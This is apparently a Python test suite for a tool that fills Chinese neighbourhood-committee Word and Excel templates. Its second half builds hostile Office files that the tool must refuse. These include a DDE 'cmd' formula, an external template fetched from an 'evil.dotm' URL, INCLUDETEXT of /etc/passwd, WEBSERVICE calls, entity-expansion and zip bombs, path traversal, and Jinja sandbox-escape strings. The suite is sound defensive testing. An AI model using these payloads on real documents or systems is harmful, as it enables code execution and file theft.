"""套表: an office's own blank is filled as it stands, and nothing that it could do is done."""

import io
import zipfile
from collections.abc import Callable
from contextlib import suppress

import docx
import openpyxl
import pytest
from docx.document import Document
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from hypothesis import given, settings
from hypothesis import strategies as st

from linli.rules.errors import Refused
from linli.web.blanks import Value, fill_blank, read_blank
from tests.web.blanks import changed, docx_of, rows_of, saved, with_part, words_of, xlsx_of

RECORD: dict[str, Value] = {"编号": "广顺园-2023-0001", "议题": "给聚鑫园加装一部电梯", "户数": 54}
ROWS = [
    {"房号": "一单元301", "业主": "李桂珍"},
    {"房号": "一单元302", "业主": "赵建国"},
    {"房号": "一单元303", "业主": "魏长林"},
]
ROW_FIELDS = ("房号", "业主")
LINE = ("{{房号}}", "{{业主}}")


def filled(data: bytes, rows: list[dict[str, str]] = ROWS) -> bytes:
    return fill_blank(data, record=RECORD, rows=rows, row_fields=ROW_FIELDS)


def refusal(data: bytes) -> str:
    with pytest.raises(Refused) as refused:
        read_blank(data)
    assert str(refused.value)
    return refused.value.code


# ── filling ──────────────────────────────────────────────────────────────────────────────────────────────────────────


def test_the_fields_of_a_blank_are_named_in_their_order_and_those_outside_rows_told_apart():
    blank = read_blank(docx_of("{{议题}}（{{ 编号 }}）", table=[("房号", "业主"), LINE], header="{{编号}}"))
    assert blank.kind == "docx"
    assert blank.fields == ("议题", "编号", "房号", "业主")
    assert blank.loose == {"议题", "编号"}


def test_a_document_is_filled_in_body_header_and_rows():
    blank = docx_of(
        "关于{{议题}}，共{{户数}}户。",
        table=[("房号", "业主"), ("{{房号}}", "{{业主}}"), ("合计", "{{户数}}")],
        header="{{编号}}",
    )
    made = filled(blank)
    document = docx.Document(io.BytesIO(made))
    assert document.paragraphs[0].text == "关于给聚鑫园加装一部电梯，共54户。"
    assert document.sections[0].header.paragraphs[0].text == "广顺园-2023-0001"
    assert words_of(made) == [["房号", "业主"], *([row["房号"], row["业主"]] for row in ROWS), ["合计", "54"]]


def test_a_field_that_an_editor_has_cut_into_pieces_is_found_and_keeps_the_look_of_its_first():
    document = docx.Document()
    paragraph = document.add_paragraph()
    for n, piece in enumerate(("题目：{", "{议", "题}", "}。")):
        paragraph.add_run(piece).bold = n == 0
    made = docx.Document(io.BytesIO(filled(saved(document))))
    assert made.paragraphs[0].text == "题目：给聚鑫园加装一部电梯。"
    assert [run.text for run in made.paragraphs[0].runs if run.bold] == ["题目：给聚鑫园加装一部电梯"]


def test_a_field_without_a_value_becomes_a_line_to_write_on():
    assert docx.Document(io.BytesIO(filled(docx_of("电话{{电话}}")))).paragraphs[0].text == "电话＿＿＿＿"
    assert rows_of(filled(xlsx_of(["电话{{电话}}"]))) == [["电话"]]


def test_a_workbook_is_filled_and_what_stands_below_the_rows_moves_down_with_its_merges():
    def merge(book: openpyxl.Workbook) -> None:
        book.active.merge_cells("A5:B5")
        book.active.merge_cells("A1:B1")
        book.active["A3"].font = openpyxl.styles.Font(bold=True)
        book.active.row_dimensions[5].height = 40

    blank = xlsx_of(
        ["{{议题}}"],
        ["房号", "业主", "户数"],
        ["{{房号}}", "{{业主}}", "{{户数}}"],
        [],
        ["制表：{{编号}}"],
        change=merge,
    )
    made = filled(blank)
    rows = rows_of(made)
    assert rows[2:5] == [[row["房号"], row["业主"], 54] for row in ROWS]
    assert rows[6][0] == "制表：广顺园-2023-0001"
    sheet = openpyxl.load_workbook(io.BytesIO(made)).worksheets[0]
    assert {str(each) for each in sheet.merged_cells.ranges} == {"A1:B1", "A7:B7"}
    assert [sheet[f"A{n}"].font.b for n in (3, 4, 5)] == [True] * 3
    assert sheet.row_dimensions[7].height == 40


def test_without_any_line_the_row_is_left_to_be_written_by_hand():
    assert words_of(filled(docx_of("{{议题}}", table=[("{{房号}}", "{{业主}}")]), [])) == [["＿＿＿＿", "＿＿＿＿"]]


def test_a_value_that_looks_like_a_field_is_not_filled_again():
    made = fill_blank(docx_of("{{甲}}"), record={"甲": "{{乙}}", "乙": "秘密"}, rows=[], row_fields=())
    assert docx.Document(io.BytesIO(made)).paragraphs[0].text == "{{乙}}"


FORMULAS = ["=1+1", "=cmd|' /C calc'!A0", "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", '=HYPERLINK("http://x.example")']


@pytest.mark.parametrize("words", FORMULAS)
def test_no_value_becomes_a_formula(words: str):
    made = fill_blank(
        xlsx_of(["{{甲}}"], ["{{房号}}"]), record={"甲": words}, rows=[{"房号": words}], row_fields=("房号",)
    )
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet
    assert b"<f " not in sheet
    for cell in next(openpyxl.load_workbook(io.BytesIO(made)).worksheets[0].iter_cols()):
        assert cell.data_type == "s"
        assert cell.quotePrefix or not str(cell.value).startswith(("=", "+", "-", "@"))


@settings(max_examples=25, deadline=None)
@given(st.text(st.characters(codec="utf-8"), max_size=80))
def test_any_value_can_be_filled_in_and_is_words(words: str):
    document = fill_blank(docx_of("甲{{甲}}乙"), record={"甲": words}, rows=[], row_fields=())
    assert len(docx.Document(io.BytesIO(document)).paragraphs) == 1
    workbook = fill_blank(xlsx_of(["甲{{甲}}乙"]), record={"甲": words}, rows=[], row_fields=())
    assert len(rows_of(workbook)) == 1


# ── hostile blanks ───────────────────────────────────────────────────────────────────────────────────────────────────

SHEET = "xl/worksheets/sheet1.xml"
DOC, BOOK = docx_of("{{甲}}"), xlsx_of(["{{甲}}"])
EXTERNAL = (
    b'<Relationship Id="rIdX" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://10.0.0.1/evil.dotm" TargetMode="External"/></Relationships>'
)


def in_rels(name: str) -> Callable[[bytes], bytes]:
    return lambda data: changed(data, name, lambda old: old.replace(b"</Relationships>", EXTERNAL))


def in_body(xml: str) -> bytes:
    return changed(DOC, "word/document.xml", lambda old: old.replace(b"<w:sectPr", xml.encode() + b"<w:sectPr"))


def in_sheet(xml: str) -> bytes:
    return changed(
        BOOK, "xl/worksheets/sheet1.xml", lambda old: old.replace(b"</sheetData>", b"</sheetData>" + xml.encode())
    )


def with_document_type(old: bytes) -> bytes:
    start = old.index(b"?>") + 2 if b"?>" in old else 0
    return old[:start] + b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>' + old[start:]


def macros(data: bytes, main: bytes, kind: bytes) -> bytes:
    renamed = changed(data, "[Content_Types].xml", lambda old: old.replace(main, kind))
    assert renamed != data
    return renamed


def bomb() -> bytes:
    return with_part(DOC, "word/media/image9.png", b"\0" * (30 * 1024 * 1024))


MACROS = b"ms-word.document.macroEnabled.main"

HOSTILE: dict[str, tuple[bytes, str]] = {
    "a macro document": (
        macros(
            DOC, b"openxmlformats-officedocument.wordprocessingml.document.main", b"ms-word.document.macroEnabled.main"
        ),
        "blank.not-plain",
    ),
    "a macro project": (
        with_part(DOC, "word/vbaProject.bin", b"x", "application/vnd.ms-office.vbaProject"),
        "blank.not-plain",
    ),
    "a macro project in a workbook": (
        with_part(BOOK, "xl/vbaProject.bin", b"x", "application/vnd.ms-office.vbaProject"),
        "blank.not-plain",
    ),
    "a part that nobody declares": (with_part(DOC, "word/evil.bin", b"x"), "blank.not-plain"),
    "an embedded object": (
        with_part(DOC, "word/embeddings/o.bin", b"x", "application/vnd.openxmlformats-officedocument.oleObject"),
        "blank.not-plain",
    ),
    "a control": (
        with_part(DOC, "word/activeX/a.xml", b"<x/>", "application/vnd.ms-office.activeX+xml"),
        "blank.not-plain",
    ),
    "another document within": (with_part(DOC, "word/part.html", b"<x/>", "text/html"), "blank.not-plain"),
    "an external template": (in_rels("word/_rels/document.xml.rels")(DOC), "blank.reaches-outside"),
    "an external link of a workbook": (in_rels("xl/_rels/workbook.xml.rels")(BOOK), "blank.reaches-outside"),
    "an include": (
        in_body('<w:p><w:r><w:instrText>INCLUDETEXT "/etc/passwd"</w:instrText></w:r></w:p>'),
        "blank.reaches-outside",
    ),
    "an include in pieces": (
        in_body("<w:p><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT x</w:instrText></w:r></w:p>"),
        "blank.reaches-outside",
    ),
    "a command field": (in_body('<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\x"/></w:p>'), "blank.reaches-outside"),
    "another part as content": (in_body('<w:altChunk r:id="rId1"/>'), "blank.reaches-outside"),
    "a document type": (changed(DOC, "word/document.xml", with_document_type), "blank.broken"),
    "a document type in a workbook": (changed(BOOK, "xl/workbook.xml", with_document_type), "blank.broken"),
    "a document type in the list of parts": (changed(DOC, "[Content_Types].xml", with_document_type), "blank.broken"),
    "a bomb": (bomb(), "blank.swells"),
    "a formula": (xlsx_of(["{{甲}}", "=1+1"]), "blank.formula"),
    "a call in a validation": (
        in_sheet(
            '<dataValidations><dataValidation><formula1>WEBSERVICE("http://x")</formula1></dataValidation></dataValidations>'
        ),
        "blank.reaches-outside",
    ),
    "a name that opens": (
        changed(
            BOOK,
            "xl/workbook.xml",
            lambda old: old.replace(
                b"<calcPr", b'<definedNames><definedName name="_xlnm.Auto_Open">x</definedName></definedNames><calcPr'
            ),
        ),
        "blank.reaches-outside",
    ),
    "a merge of the whole sheet": (
        in_sheet('<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
        "blank.too-much",
    ),
    "the last row of a sheet": (
        changed(
            BOOK,
            "xl/worksheets/sheet1.xml",
            lambda old: old.replace(b"</sheetData>", b'<row r="1048576"/></sheetData>'),
        ),
        "blank.too-much",
    ),
    "a loop": (docx_of("{% for a in range(999999999) %}{{a}}{% endfor %}"), "blank.command"),
    "a call": (docx_of("{{ ''.__class__.__mro__[1].__subclasses__() }}"), "blank.no-field"),
    "a long word": (docx_of("{{ 'a' * 10000000000 }}"), "blank.no-field"),
    "an attribute": (docx_of("{{ self._TemplateReference__context }}"), "blank.no-field"),
    "an open brace": (docx_of("{{甲"), "blank.open-brace"),
    "no field": (docx_of("没有字段"), "blank.no-fields"),
    "an old document": (b"\xd0\xcf\x11\xe0" + b"\0" * 600, "blank.old-kind"),
    "no document": (b"%PDF-1.7", "blank.broken"),
    "nothing": (b"", "blank.broken"),
    "half a document": (DOC[: len(DOC) // 2], "blank.broken"),
    "an archive of something else": (with_part(b"PK\x05\x06" + b"\0" * 18, "a.txt", b"x"), "blank.broken"),
    "a part outside its folder": (with_part(DOC, "../../etc/x.xml", b"<x/>"), "blank.broken"),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_what_could_do_more_than_be_filled_is_refused(what: str):
    data, code = HOSTILE[what]
    assert refusal(data) == code


def test_too_large_is_refused_before_it_is_opened():
    assert refusal(b"PK" + b"\0" * (5 * 1024 * 1024)) == "blank.too-large"


def test_a_page_number_and_an_ordinary_document_are_let_in():
    document: Document = docx.Document(io.BytesIO(DOC))
    run = document.sections[0].footer.paragraphs[0].add_run()
    for kind, text in (("begin", ""), ("", " PAGE  \\* MERGEFORMAT "), ("end", "")):
        part = OxmlElement("w:instrText" if text else "w:fldChar")
        if text:
            part.text = text
        else:
            part.set(qn("w:fldCharType"), kind)
        run._r.append(part)
    assert read_blank(saved(document)).fields == ("甲",)


def test_a_row_joined_with_its_neighbours_cannot_be_repeated_and_says_so():
    blank = xlsx_of(["{{房号}}", "栋"], ["", ""], change=lambda book: book.active.merge_cells("B1:B2"))
    with pytest.raises(Refused) as refused:
        filled(blank)
    assert refused.value.code == "blank.merged-row"


def test_more_lines_than_a_document_bears_are_refused():
    with pytest.raises(Refused) as refused:
        filled(docx_of("", table=[("{{房号}}",)]), [{"房号": "1"}] * 2_001)
    assert refused.value.code == "blank.too-many-rows"


@settings(max_examples=50, deadline=None)
@given(st.integers(0, len(DOC) - 1), st.integers(1, 255), st.booleans())
def test_a_damaged_blank_is_refused_or_read_but_never_breaks(at: int, flip: int, of_document: bool):
    data = bytearray(DOC if of_document else BOOK)
    data[at % len(data)] ^= flip
    with suppress(Refused):
        fill_blank(bytes(data), record={"甲": "x"}, rows=[], row_fields=())
